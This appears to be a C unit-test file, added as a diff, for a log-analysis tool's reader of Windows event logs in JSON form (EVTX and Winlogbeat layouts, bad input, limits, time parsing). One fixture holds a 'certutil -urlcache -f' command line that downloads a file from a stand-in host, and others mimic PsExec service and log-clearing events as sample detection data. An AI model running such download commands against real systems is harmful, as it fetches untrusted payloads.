@@ -1,0 +1,351 @@
+/* The JSON-lines reader: both layouts, bad input, limits, times, files. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#include "plainsight/jsonl.h"
+
+#define MAX_SEEN 8
+
+/* What the callbacks saw: the last events' key fields and every diagnostic. */
+typedef struct seen {
+    int events;
+    char dump[MAX_SEEN][2048];       /* "path=value(kind)\n" per field */
+    uint32_t event_id[MAX_SEEN];
+    uint64_t record_id[MAX_SEEN], filetime[MAX_SEEN], offset[MAX_SEEN];
+    char channel[MAX_SEEN][64], computer[MAX_SEEN][64], provider[MAX_SEEN][64];
+    int diags;
+    uint64_t diag_line[MAX_SEEN];
+    char diag_msg[MAX_SEEN][256];
+    int stop_after;
+} seen;
+
+static int on_event(void *ctx, unsigned worker, const ps_event *ev)
+{
+    (void)worker;
+    seen *s = ctx;
+    int i = s->events++;
+    if (i < MAX_SEEN) {
+        size_t n = 0;
+        for (uint32_t f = 0; f < ev->nfields; f++)
+            n += (size_t)snprintf(s->dump[i] + n, sizeof s->dump[i] - n, "%s=%s(%d)\n",
+                                  ev->fields[f].path, ev->fields[f].value, ev->fields[f].kind);
+        s->event_id[i] = ev->event_id;
+        s->record_id[i] = ev->record_id;
+        s->filetime[i] = ev->time_filetime;
+        s->offset[i] = ev->offset;
+        snprintf(s->channel[i], 64, "%s", ev->channel);
+        snprintf(s->computer[i], 64, "%s", ev->computer);
+        snprintf(s->provider[i], 64, "%s", ev->provider);
+    }
+    return s->stop_after && s->events >= s->stop_after;
+}
+
+static void on_diag(void *ctx, const ps_diag *d)
+{
+    seen *s = ctx;
+    int i = s->diags++;
+    if (i < MAX_SEEN) {
+        s->diag_line[i] = d->is_line ? d->offset : 0;
+        snprintf(s->diag_msg[i], sizeof s->diag_msg[i], "%s", d->message);
+    }
+}
+
+static int read_text(const char *text, seen *s, const ps_jsonl_options *base, ps_jsonl_stats *st)
+{
+    ps_jsonl_options o = base ? *base : (ps_jsonl_options){0};
+    o.diag = on_diag;
+    o.diag_ctx = s;
+    return ps_jsonl_events_mem(text, strlen(text), "mem.jsonl", &o, on_event, s, st);
+}
+
+static const char EVTX_LINE[] =
+    "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},"
+    "\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},"
+    "\"EventID\":1,\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2024-05-01T10:00:00.123456Z\"}},"
+    "\"EventRecordID\":42,\"Correlation\":null,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
+    "\"Computer\":\"ws1\"},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\cmd.exe\",\"Ok\":true,"
+    "\"Rate\":1.5,\"List\":[\"a\",\"b\"]}}}\n";
+
+static void test_evtx_layout(void **state)
+{
+    (void)state;
+    seen s = {0};
+    ps_jsonl_stats st;
+    assert_int_equal(read_text(EVTX_LINE, &s, NULL, &st), PS_OK);
+    assert_int_equal(s.events, 1);
+    assert_int_equal(s.diags, 0);
+    assert_string_equal(s.dump[0],
+        "Event.#attributes.xmlns=http://schemas.microsoft.com/win/2004/08/events/event(1)\n"
+        "Event.System.Provider.#attributes.Name=Microsoft-Windows-Sysmon(1)\n"
+        "Event.System.EventID=1(2)\n"
+        "Event.System.TimeCreated.#attributes.SystemTime=2024-05-01T10:00:00.123456Z(1)\n"
+        "Event.System.EventRecordID=42(2)\n"
+        "Event.System.Correlation=(0)\n"
+        "Event.System.Channel=Microsoft-Windows-Sysmon/Operational(1)\n"
+        "Event.System.Computer=ws1(1)\n"
+        "Event.EventData.Image=C:\\Windows\\cmd.exe(1)\n"
+        "Event.EventData.Ok=true(3)\n"
+        "Event.EventData.Rate=1.5(1)\n"
+        "Event.EventData.List=a(1)\n"
+        "Event.EventData.List=b(1)\n");
+    assert_int_equal(s.event_id[0], 1);
+    assert_int_equal(s.record_id[0], 42);
+    uint64_t want;
+    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.123456Z", &want, NULL), 0);
+    assert_true(s.filetime[0] == want);
+    assert_string_equal(s.channel[0], "Microsoft-Windows-Sysmon/Operational");
+    assert_string_equal(s.computer[0], "ws1");
+    assert_string_equal(s.provider[0], "Microsoft-Windows-Sysmon");
+    assert_int_equal(st.records, 1);
+    assert_int_equal(st.skipped, 0);
+}
+
+/* Pretty-printed objects one after another, and a JSON array of them (what
+ * `plainsight dump --format json` writes) give the same events. */
+static void test_pretty_and_array(void **state)
+{
+    (void)state;
+    const char *pretty =
+        "{\n  \"Event\": {\n    \"System\": {\n      \"EventID\": 4688,\n"
+        "      \"EventRecordID\": 1\n    }\n  }\n}\n"
+        "{\n  \"Event\": {\n    \"System\": {\n      \"EventID\": 4624,\n"
+        "      \"EventRecordID\": 2\n    }\n  }\n}\n";
+    seen s = {0};
+    assert_int_equal(read_text(pretty, &s, NULL, NULL), PS_OK);
+    assert_int_equal(s.events, 2);
+    assert_int_equal(s.diags, 0);
+    assert_int_equal(s.event_id[1], 4624);
+    assert_int_equal(s.offset[0], 0);
+    assert_int_equal(s.offset[1], strstr(pretty, "}\n{") - pretty + 2);
+
+    seen a = {0};
+    assert_int_equal(read_text("[\n{\"Event\":{\"System\":{\"EventID\":1}}},\n"
+                               "{\"Event\":{\"System\":{\"EventID\":2}}}\n]\n", &a, NULL, NULL),
+                     PS_OK);
+    assert_int_equal(a.events, 2);
+    assert_int_equal(a.diags, 0);
+    assert_int_equal(a.event_id[1], 2);
+}
+
+static void test_winlogbeat_nested(void **state)
+{
+    (void)state;
+    const char *line =
+        "{\"@timestamp\":\"2024-05-01T10:00:00.123Z\",\"message\":\"A process was created\","
+        "\"host\":{\"name\":\"ws1\"},\"event\":{\"code\":\"4688\"},"
+        "\"winlog\":{\"channel\":\"Security\",\"computer_name\":\"ws1.corp.local\","
+        "\"event_id\":\"4688\",\"record_id\":\"9001\",\"provider_name\":\"Microsoft-Windows-Security-Auditing\","
+        "\"provider_guid\":\"{54849625-5478-4994-A5BA-3E3B0328C30D}\","
+        "\"process\":{\"pid\":4,\"thread\":{\"id\":8}},\"task\":\"Process Creation\","
+        "\"event_data\":{\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
+        "\"CommandLine\":\"certutil -urlcache -f http://x/a a\"}}}\n";
+    seen s = {0};
+    assert_int_equal(read_text(line, &s, NULL, NULL), PS_OK);
+    assert_int_equal(s.events, 1);
+    assert_int_equal(s.diags, 0);
+    assert_string_equal(s.dump[0],
+        "Event.System.Provider.#attributes.Name=Microsoft-Windows-Security-Auditing(1)\n"
+        "Event.System.Provider.#attributes.Guid=54849625-5478-4994-A5BA-3E3B0328C30D(1)\n"
+        "Event.System.EventID=4688(2)\n"
+        "Event.System.TimeCreated.#attributes.SystemTime=2024-05-01T10:00:00.123000Z(1)\n"
+        "Event.System.EventRecordID=9001(2)\n"
+        "Event.System.Execution.#attributes.ProcessID=4(2)\n"
+        "Event.System.Execution.#attributes.ThreadID=8(2)\n"
+        "Event.System.Channel=Security(1)\n"
+        "Event.System.Computer=ws1.corp.local(1)\n"
+        "Event.EventData.NewProcessName=C:\\Windows\\System32\\certutil.exe(1)\n"
+        "Event.EventData.CommandLine=certutil -urlcache -f http://x/a a(1)\n");
+    assert_int_equal(s.event_id[0], 4688);
+    assert_int_equal(s.record_id[0], 9001);
+    assert_string_equal(s.channel[0], "Security");
+    assert_string_equal(s.computer[0], "ws1.corp.local");
+    uint64_t want;
+    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.123Z", &want, NULL), 0);
+    assert_true(s.filetime[0] == want);
+}
+
+/* SIEM exports that flatten keys ("winlog.event_data.X" as one key), and
+ * user_data nested under its root element's name as in EVTX. */
+static void test_winlogbeat_flat_and_user_data(void **state)
+{
+    (void)state;
+    const char *text =
+        "{\"winlog.event_id\":7045,\"winlog.channel\":\"System\","
+        "\"winlog.event_data.ServiceName\":\"PSEXESVC\"}\n"
+        "{\"winlog\":{\"event_id\":1102,\"channel\":\"Security\",\"user_data\":"
+        "{\"xml_name\":\"LogFileCleared\",\"SubjectUserName\":\"admin\"}}}\n";
+    seen s = {0};
+    assert_int_equal(read_text(text, &s, NULL, NULL), PS_OK);
+    assert_int_equal(s.events, 2);
+    assert_string_equal(s.dump[0], "Event.System.EventID=7045(2)\n"
+                                   "Event.System.Channel=System(1)\n"
+                                   "Event.EventData.ServiceName=PSEXESVC(1)\n");
+    assert_string_equal(s.dump[1], "Event.System.EventID=1102(2)\n"
+                                   "Event.System.Channel=Security(1)\n"
+                                   "Event.UserData.LogFileCleared.SubjectUserName=admin(1)\n");
+}
+
+/* Bad lines are reported with their line number and skipped; the good ones
+ * around them are delivered. */
+static void test_bad_lines(void **state)
+{
+    (void)state;
+    const char *text =
+        "{\"Event\":{\"System\":{\"EventID\":1}}}\n"   /* 1 ok */
+        "garbage here\n"                               /* 2 not JSON */
+        "{\"Event\":{\"System\":{\"EventID\":2}}}\n"   /* 3 ok */
+        "{\"Event\": {\"System\": tru}}\n"             /* 4 invalid JSON */
+        "{\"foo\": 1}\n"                               /* 5 not an event */
+        "{\"Event\":{\"System\":{\"EventID\":\n"       /* 6 cut short */
+        "{\"Event\":{\"System\":{\"EventID\":3}}}\n"   /* 7 ok */
+        "[1, 2]\n"                                     /* 8 array of non-objects */
+        "{\"Event\":{\"System\":{\"EventID\":4}}}\n"   /* 9 ok */
+        "{\"Event\":{\"System\":{\"EventID\":5}";      /* 10 cut by end of file */
+    seen s = {0};
+    ps_jsonl_stats st;
+    assert_int_equal(read_text(text, &s, NULL, &st), PS_OK);
+    assert_int_equal(s.events, 4);
+    assert_int_equal(s.event_id[0], 1);
+    assert_int_equal(s.event_id[1], 2);
+    assert_int_equal(s.event_id[2], 3);
+    assert_int_equal(s.event_id[3], 4);
+    assert_int_equal(s.diags, 6);
+    assert_int_equal(st.skipped, 6);
+    uint64_t lines[] = {2, 4, 5, 6, 8, 10};
+    for (int i = 0; i < 6; i++)
+        assert_int_equal(s.diag_line[i], lines[i]);
+    assert_non_null(strstr(s.diag_msg[1], "invalid JSON"));
+    assert_non_null(strstr(s.diag_msg[2], "not an event"));
+    assert_non_null(strstr(s.diag_msg[3], "cut short"));
+}
+
+static void test_limits(void **state)
+{
+    (void)state;
+    char big[600];
+    snprintf(big, sizeof big,
+             "{\"Event\":{\"EventData\":{\"X\":\"%0300d\"}}}\n{\"Event\":{\"System\":{\"EventID\":7}}}\n", 0);
+    ps_jsonl_options small = {.max_object_bytes = 200};
+    seen s = {0};
+    assert_int_equal(read_text(big, &s, &small, NULL), PS_OK);
+    assert_int_equal(s.events, 1);
+    assert_int_equal(s.event_id[0], 7);
+    assert_int_equal(s.diags, 1);
+    assert_non_null(strstr(s.diag_msg[0], "larger than 200"));
+
+    /* Deep nesting, with the rest of the object on following lines. */
+    char deep[2048];
+    size_t n = 0;
+    n += (size_t)snprintf(deep + n, sizeof deep - n, "{\"Event\":");
+    for (int i = 0; i < 100; i++)
+        n += (size_t)snprintf(deep + n, sizeof deep - n, "{\"a\":");
+    n += (size_t)snprintf(deep + n, sizeof deep - n, "1\n");
+    for (int i = 0; i < 101; i++)
+        n += (size_t)snprintf(deep + n, sizeof deep - n, "}");
+    snprintf(deep + n, sizeof deep - n, "\n{\"Event\":{\"System\":{\"EventID\":8}}}\n");
+    seen d = {0};
+    assert_int_equal(read_text(deep, &d, NULL, NULL), PS_OK);
+    assert_int_equal(d.events, 1);
+    assert_int_equal(d.event_id[0], 8);
+    assert_int_equal(d.diags, 1);
+    assert_non_null(strstr(d.diag_msg[0], "nested deeper"));
+
+    /* Braces inside strings do not count. */
+    seen q = {0};
+    assert_int_equal(read_text("{\"Event\":{\"EventData\":{\"X\":\"}}{{\\\"}\"}}}\n", &q, NULL, NULL),
+                     PS_OK);
+    assert_int_equal(q.events, 1);
+    assert_int_equal(q.diags, 0);
+    assert_string_equal(q.dump[0], "Event.EventData.X=}}{{\"}(1)\n");
+}
+
+static void test_stop(void **state)
+{
+    (void)state;
+    seen s = {.stop_after = 1};
+    assert_int_equal(read_text("{\"Event\":{}}\n{\"Event\":{}}\n", &s, NULL, NULL), PS_ERR_STOP);
+    assert_int_equal(s.events, 1);
+}
+
+static void test_time_parse(void **state)
+{
+    (void)state;
+    uint64_t ft, ft2;
+    int date_only;
+    assert_int_equal(ps_time_parse("1970-01-01T00:00:00Z", &ft, &date_only), 0);
+    assert_true(ft == 116444736000000000ull);
+    assert_int_equal(date_only, 0);
+    assert_int_equal(ps_time_parse("1970-01-01", &ft, &date_only), 0);
+    assert_true(ft == 116444736000000000ull);
+    assert_int_equal(date_only, 1);
+    assert_int_equal(ps_time_parse("2024-05-01 12:00:00+02:00", &ft, NULL), 0);
+    assert_int_equal(ps_time_parse("2024-05-01T10:00", &ft2, NULL), 0);
+    assert_true(ft == ft2);
+    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.1234567Z", &ft, NULL), 0);
+    assert_true(ft - ft2 == 1234567);
+    assert_int_equal(ps_time_parse("2024-02-29T23:59:59Z", &ft, NULL), 0);
+    assert_int_equal(ps_time_parse("2024-03-01T00:00:00Z", &ft2, NULL), 0);
+    assert_true(ft2 - ft == 10000000ull);
+    assert_int_equal(ps_time_parse("yesterday", &ft, NULL), -1);
+    assert_int_equal(ps_time_parse("2024-13-01", &ft, NULL), -1);
+    assert_int_equal(ps_time_parse("2024-05-01T25:00:00Z", &ft, NULL), -1);
+    assert_int_equal(ps_time_parse("2024-05-01T10:00:00Zjunk", &ft, NULL), -1);
+    assert_int_equal(ps_time_parse("2024-05-01T10:00:00.", &ft, NULL), -1);
+}
+
+static void write_file(const char *path, const char *text)
+{
+    FILE *f = fopen(path, "w");
+    assert_non_null(f);
+    fputs(text, f);
+    fclose(f);
+}
+
+static void test_files_and_dirs(void **state)
+{
+    (void)state;
+    char dir[] = "/tmp/ps_jsonl_XXXXXX";
+    assert_non_null(mkdtemp(dir));
+    char p[256], sub[256], txt[256], q[256];
+    snprintf(sub, sizeof sub, "%s/sub", dir);
+    assert_int_equal(mkdir(sub, 0700), 0);
+    snprintf(p, sizeof p, "%s/a.jsonl", dir);
+    write_file(p, "{\"Event\":{\"System\":{\"EventID\":1}}}\n{\"Event\":{\"System\":{\"EventID\":2}}}\n");
+    snprintf(q, sizeof q, "%s/sub/b.JSON", dir);
+    write_file(q, "{\n \"Event\": {}\n}\n");
+    snprintf(txt, sizeof txt, "%s/notes.txt", dir);
+    write_file(txt, "not read\n");
+    const char *inputs[] = {dir, "/nonexistent/x.jsonl"};
+    ps_jsonl_options o = {.threads = 2, .diag = on_diag};
+    seen s = {0};
+    o.diag_ctx = &s;
+    ps_jsonl_stats st;
+    assert_int_equal(ps_jsonl_events(inputs, 2, &o, on_event, &s, &st), PS_OK);
+    assert_int_equal(s.events, 3);
+    assert_int_equal(st.files, 2);
+    assert_int_equal(st.files_failed, 1);
+    assert_int_equal(st.records, 3);
+    assert_int_equal(s.diags, 1);
+    assert_true(ps_jsonl_is_json_name("x.ndjson") && !ps_jsonl_is_json_name("x.evtx"));
+    unlink(p), unlink(q), unlink(txt), rmdir(sub), rmdir(dir);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_evtx_layout),       cmocka_unit_test(test_pretty_and_array),
+        cmocka_unit_test(test_winlogbeat_nested), cmocka_unit_test(test_winlogbeat_flat_and_user_data),
+        cmocka_unit_test(test_bad_lines),         cmocka_unit_test(test_limits),
+        cmocka_unit_test(test_stop),              cmocka_unit_test(test_time_parse),
+        cmocka_unit_test(test_files_and_dirs),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
